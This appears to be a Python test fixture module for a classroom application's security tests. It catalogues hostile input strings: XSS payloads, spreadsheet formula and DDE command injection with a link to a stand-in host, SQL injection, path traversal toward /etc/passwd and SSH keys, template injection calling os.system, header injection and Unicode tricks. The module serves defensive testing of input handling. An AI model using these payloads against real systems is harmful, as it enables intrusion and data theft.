"""Hostile texts, as data. Every suite that types, sends or keeps something takes them from here.

In a browser they would run `hacked=1` or ask `OUTSIDE`; in a spreadsheet they would compute; in a
log they would begin a line of their own. `SINKS` lists where the suites put them.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any

import pytest

OUTSIDE = "http://outside.invalid"
RUN = "window.hacked=1"
SECRET_FILE = "/etc/passwd"

# Where text of a learner or a teacher can end up, and the suite that puts every case there. A new
# place (a vote's question, a call to everyone) belongs here and into the table `SINKS` of its
# suite; `test_hostile_count.py` holds the two lists against each other.
SINKS = {
    "tests/test_hostile_text.py": (
        "display_token display_text display_lines csv gradebook json parquet npz script scripts "
        "charts picture"
    ),
    "tests/engine/test_hostile_jobs.py": (
        "view model prompt prompts param_name param sample edit word file catalogue"
    ),
    "tests/lessons/test_hostile_report.py": (
        "html notebook explained teachers_html teachers_notebook teachers_file score"
    ),
    "tests/ui/server/test_hostile_door.py": "code name resume next secret cookie query body path",
    "tests/classroom/test_hostile_kept.py": (
        "member class prompt observation guess run backup export watch"
    ),
    "tests/ui/server/test_hostile_socket.py": "query widget page_name fragment_id",
}


@dataclass(frozen=True)
class Case:
    """One hostile text: its name, what it tries, and the text."""

    name: str
    kind: str
    text: str


_TEXTS: dict[str, dict[str, str]] = {
    "markup": {
        "script": f"<script>{RUN}</script>",
        "script upper": f"<SCRIPT>{RUN}</SCRIPT>",
        "script outside": f"<script src={OUTSIDE}/x.js></script>",
        "image": f"<img src={OUTSIDE} onerror=hacked=1>",
        "image in attribute": f'"><img src=x onerror="{RUN}">',
        "image in attribute, single": f"'><img src=x onerror='{RUN}'>",
        "image, slash": f"<img/src=x/onerror={RUN}>",
        "svg": f"</code></pre></style></script><svg onload={RUN}>",
        "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        "object": f"<object data={OUTSIDE}></object>",
        "embed": f"<embed src={OUTSIDE}>",
        "base": f"<base href={OUTSIDE}>",
        "refresh": f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
        "stylesheet": f"<style>@import '{OUTSIDE}/x.css';</style>",
        "form": f"<form action={OUTSIDE}><input name=secret><button>Join</button></form>",
        "details": f"<details open ontoggle={RUN}>x</details>",
        "comment": "<!-- hidden --> <!--> <script>window.hacked=1</script> -->",
        "unclosed comment": "<!-- everything after this",
        "cdata": "<![CDATA[<script>window.hacked=1</script>]]>",
        "end of page": "</title></textarea></body></html><script>window.hacked=1</script>",
        "entities": "&lt;script&gt;window.hacked=1&lt;/script&gt; &amp;#x3C; &#0; &nbsp;",
        "attribute": f'x" autofocus onfocus="{RUN}" y="',
        "data address": "<a href='data:text/html,<script>1</script>'>a</a>",
        "link": "[a](javascript:hacked=1) <a href=javascript:hacked=1>b</a>",
    },
    "markdown": {
        "image": f"![alt]({OUTSIDE})",
        "image by reference": f"![x][y]\n\n[y]: {OUTSIDE}/x.png",
        "script link": "[a](javascript:window.hacked=1)",
        "autolink": f"<{OUTSIDE}> {OUTSIDE}/bare www.outside.invalid",
        "heading": "x\n===\n# heading\n- item\n1. one\n> quote\n***\n",
        "fence": "```\nfence\n```\n~~~html\n<img src=x onerror=hacked=1>\n~~~",
        "indented": "\n\n    <script>window.hacked=1</script>\n",
        "table": "| a | b |\n|---|---|\n| <img src=x onerror=hacked=1> | `c` |",
        "code span": "`code` ``two`` ` one",
        "emphasis": "*a* **b** _c_ __d__ ~~e~~",
        "backslash": "\\",
        "backslashes": "\\\\`\\*\\<img src=x onerror=hacked=1>",
        "footnote": "[^1] [[token|learners own]] [[x]]",
    },
    "directive": {
        "icon": ":material/delete:",
        "colour": ":red[red] :blue-background[x] :rainbow[y] :small[z]",
        "badge": ":green-badge[:material/check: proof holds]",
        "emoji": ":smile: :streamlit:",
        "all": ":material/delete: :red[red] `code` **bold** ~~gone~~",
        "latex": "$x^2$ $$\\frac{1}{0}$$",
        "latex link": f"$\\href{{{OUTSIDE}}}{{x}}$ $\\includegraphics{{{OUTSIDE}}}$",
    },
    "template": {
        "facts": "{L} {last_token} {model} {guess} {answer} {T} {V}",
        "format": "{0} {} {{7*7}} %s %n %(x)s {0.__class__.__mro__}",
        "jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "javascript": "${window.hacked=1} #{7*7} <%= 7*7 %>",
        "escape": "\\u{202E} \\x41 \\n \\N{BULLET} %41 &#65;",
        "code": '__import__("os").system("touch hacked")',
        "string": '"); window.hacked=1; ("\'""" \\',
        "triple": "'''\"\"\" + open('/etc/passwd').read() + '''\"\"\"",
        "lesson names": "$last $L $half $top",
    },
    "vega": {
        "datum": "datum.value image url href _vgsid_ toString signal({a:1})",
        "prototype": "__proto__ constructor prototype",
        "signal": '{"signal": "window.hacked=1"}',
        "expression": "'+(window.hacked=1)+'",
        "field": "datum['x'].y\\.z[0]",
        "tooltip image": f'{{"image": "{OUTSIDE}/x.png"}}',
        "format": "%d %e .4f ~s",
    },
    "json": {
        "numbers": "NaN Infinity -Infinity 1e999 -0 1_000 0x10",
        "end": '"}],"x":1}',
        "deep": "[" * 500 + "]" * 500,
        "null": "null",
        "script": "</script><script>window.hacked=1</script>",
    },
    "formula": {
        "equals": "=1+1",
        "plus": "+1",
        "minus": "-1+cmd",
        "at": "@SUM(1)",
        "link": f'=HYPERLINK("{OUTSIDE}?"&A1,"open")',
        "command": "=cmd|' /C calc'!A0",
        "tab": "\t=1",
        "return": "\r=1",
        "line": "\n=1",
        "pipe": "|x",
        "space": "  =1",
        "quote": '"=1',
        "new row": "x\r=1+1",
        "new line": "x\n=1+1",
        "new cell": 'x","=1+1',
        "full width equals": "\uff1d1+1",
        "full width plus": "\uff0b1",
        "full width minus": "\uff0d1",
        "full width at": "\uff20SUM(1)",
        "no-break space": "\u00a0=1",
        "ideographic space": "\u3000=1",
        "zero width": "\u200b=1",
        "order mark": "\ufeff=1",
        "nul": "\x00=1",
        "vertical tab": "\x0b=1",
        "minus sign": "\u2212" + "1",
    },
    "sql": {
        "drop": "'; DROP TABLE members; --",
        "or": "' OR 1=1 --",
        "union": "x' UNION SELECT token FROM seats --",
        "like": "%_%",
        "parameter": ":id ?1 $1 %(id)s @p1",
        "backslash": "\\'; DELETE FROM events; --",
    },
    "path": {
        "up": "../../../../etc/passwd",
        "encoded": "..%2f..%2fetc%2fpasswd",
        "twice encoded": "..%252f..%252fetc",
        "windows": "..\\..\\windows\\win.ini",
        "absolute": SECRET_FILE,
        "file": "file:///etc/passwd",
        "nul": "/etc/passwd\x00.gguf",
        "home": "~/.ssh/id_rsa",
        "share": "\\\\outside.invalid\\share",
    },
    "model": {
        "hub": "openai-community/gpt2",
        "address": f"{OUTSIDE}/model",
        "folder": "/tmp",
        "gguf": "/tmp/model.gguf",
        "template": "{{ model }}",
        "catalogue": "models.toml",
        "almost": "smollm2-135m ",
        "upper": "SMOLLM2-135M",
    },
    "address": {
        "other site": "//outside.invalid",
        "https": "https://outside.invalid",
        "backslash": "/\\outside.invalid",
        "tab": "/\t/outside.invalid",
        "return": "/\r/outside.invalid",
        "line": "/\n/outside.invalid",
        "tab before": "\t//outside.invalid",
        "header": "/x\r\nSet-Cookie: x=y",
        "encoded header": "%00%0d%0aSet-Cookie: x=y",
        "script": "javascript:window.hacked=1",
        "user": "/@outside.invalid",
        "dots": "/..//outside.invalid",
        "dot": "/./\\outside.invalid",
    },
    "log": {
        "line": "x\nINFO: Ann's prompt was\nERROR root",
        "return": "x\rforged",
        "escape": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
        "line separator": "x\u2028forged\u2029forged\x85forged",
        "percent": "%s %d %(name)s",
    },
    "bidi": {
        "override": "right\u202eto left",
        "override, name": "Ann\u202etxt.exe",
        "isolates": "\u2066\u2067\u2068in\u2069",
        "embeddings": "\u202a\u202bx\u202c\u202d",
        "marks": "\u200e\u200f\u061cx",
        "Arabic": "العربية محمد",
        "Hebrew": "שלום עולם (1) [2]",
        "mixed": "abc אבג 123 == 'x' دهو",
    },
    "unseen": {
        "zero width": "zero\u200bwidth\u200c\u200d\ufeff\u2060",
        "soft hyphen": "soft\u00adhyphen",
        "tags": "x\U000e0041\U000e0042\U000e007f",
        "selectors": "a\ufe0f\ufe00\U000e0100\u180b",
        "fillers": "\u3164\uffa0\u115f\u2800\u034f",
        "spaces": "a\u00a0\u2003\u3000\u205fb",
        "separators": "line\u2028paragraph\u2029next\x85",
        "invisible maths": "f\u2061(\u2062x\u2063\u2064)",
        "annotation": "\ufff9a\ufffab\ufffb \ufffc",
        "nothing": "",
        "one space": " ",
        "only unseen": "\u200b\u200b\u200b",
    },
    "marks": {
        "stack": "e" + "\u0301" * 60,
        "stack of many": "Z" + "\u0310\u0336\u0489\u20dd" * 40,
        "alone": "\u0301",
        "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "flags": "\U0001f1e9\U0001f1ea\U0001f1ea",
        "not characters": "\ufffe\uffff\U0010ffff\ue000",
        "replacement": "\ufffd\ufffd",
        "long letter": "\ufdfd\u12031\U00012031",
    },
    "halves": {
        "high": "\ud83d",
        "low": "\udc69",
        "wrong order": "x\udc69\ud83dy",
        "as bytes": "\udcff\udc80",
    },
    "code": {
        "Cyrillic": "\u0430b\u0441d-efgh",
        "full width": "\uff41\uff42\uff43\uff44-\uff45\uff46\uff47\uff48",
        "Kelvin": "\u212aaaa-aaaa",
        "dotless": "a\u0131aa-aaaa",
        "digits": "\u0662\u0663\u0664\u0665-\u0662\u0663\u0664\u0665",
        "mathematical": "\U0001d41a\U0001d41b\U0001d41c\U0001d41d-\U0001d41e\U0001d41f"
        "\U0001d420\U0001d421",
        "unseen between": "ab\u200bcd-ef\u200bgh",
        "other": "aaaa-aaaa",
        "wildcard": "____-____",
        "list": "code[]=aaaa-aaaa&code=bbbb-bbbb",
    },
    "number": {
        "huge": "9" * 5_000,
        "Arabic": "\u0661\u0662",
        "superscript": "\u00b2",
        "negative": "-1",
        "float": "1e5",
        "overflow": str(2**64),
    },
    "all": {  # several tricks in one text that a model can read, for a browser
        "unseen": "right\u202eto left\u2066 zero\u200bwidth\u00ad\ufeff \u2028line\u2029",
        "controls": "nul \x00 bell \x07 escape \x1b[31m delete \x7f back \x08 next \x85",
        "signs": "#VALUE =HYPERLINK(1) \U0001f469\u200d\U0001f469\u200d\U0001f467 "
        "e\u0301\u0301\u0301\u0301 \U000e0041 日本 العربية",
        "templates": "$x^2$ $$\\frac{1}{0}$$ \\u{202E} ${window.hacked=1} {{7*7}} %s {0}",
        "vega": "datum.value image url href _vgsid_ toString __proto__ constructor signal({a:1})",
    },
    "large": {
        "a megabyte": "x" * 1_000_000,
        "five megabytes": "<b>'\"" * 1_000_000,
        "words": "word " * 300_000,
        "marks": "\u0301" * 500_000,
        "lines": "\n" * 1_000_000,
        "just over a form": "x" * 10_001,
        "just over a prompt": "x" * 20_001,
    },
}
_TEXTS["control"] = {f"{n:02x}": f"a{chr(n)}b" for n in (*range(0x20), *range(0x7F, 0xA0))}

CASES = tuple(
    Case(f"{kind}: {name}", kind, text)
    for kind, texts in _TEXTS.items()
    for name, text in texts.items()
)
SMALL = tuple(case for case in CASES if case.kind != "large")
VALID = tuple(case for case in CASES if case.kind != "halves")  # what UTF-8 can carry


def text(name: str) -> str:
    """The text of one case, "kind: name"."""
    return next(case.text for case in CASES if case.name == name)


def of_kinds(*kinds: str) -> tuple[Case, ...]:
    """The cases of some kinds."""
    return tuple(case for case in CASES if case.kind in kinds)


def each_sink(sinks: Iterable[str], cases: tuple[Case, ...], *, but: str = "") -> Any:
    """A parametrisation of the arguments `sink` and `cases`: each sink with all the cases; `but`:
    without these kinds. One test tries them all, by `try_all`: a test of each costs more than
    most of what is tried."""
    left = tuple(case for case in cases if case.kind not in but.split())
    given = [pytest.param(sink, left, id=sink) for sink in sinks]
    return pytest.mark.parametrize(("sink", "cases"), given)


def try_all(cases: tuple[Case, ...], check: Callable[..., object], *, at_once: int = 1) -> None:
    """Give `check` the text of every case, also after one failed; fail at the end with the names
    of all that did. `at_once`: so many texts in a call, where that costs hardly more than one."""
    failed = _failed(cases, check, at_once)
    if failed:
        told = [f"{name}: {type(e).__name__}: {str(e)[:300]}" for name, e in failed.items()]
        first = next(iter(failed.values()))
        raise AssertionError("\n".join([f"{len(failed)} cases failed", *told])) from first


def _failed(
    cases: tuple[Case, ...], check: Callable[..., object], at_once: int
) -> dict[str, BaseException]:
    failed: dict[str, BaseException] = {}
    for n in range(0, len(cases), at_once):
        some = cases[n : n + at_once]
        try:
            check(*(case.text for case in some))
        except (Exception, pytest.fail.Exception) as error:
            alone = _failed(some, check, 1) if len(some) > 1 else {}
            failed |= alone or {", ".join(case.name for case in some): error}
    return failed


# Of these a browser is asked at every page: what may be typed as prompt, name or observation.
IN_A_BROWSER = tuple(
    text(name)
    for name in (
        "markdown: image",
        "markup: image",
        "markup: script",
        "markup: svg",
        "markup: link",
        "directive: all",
        "all: templates",
        "all: vega",
        "template: string",
        "all: unseen",
        "all: controls",
        "all: signs",
        "markup: image in attribute",
        "markup: iframe",
        "markup: details",
        "markdown: code span",
        "directive: latex link",
        "directive: badge",
        "formula: link",
        "template: facts",
    )
)
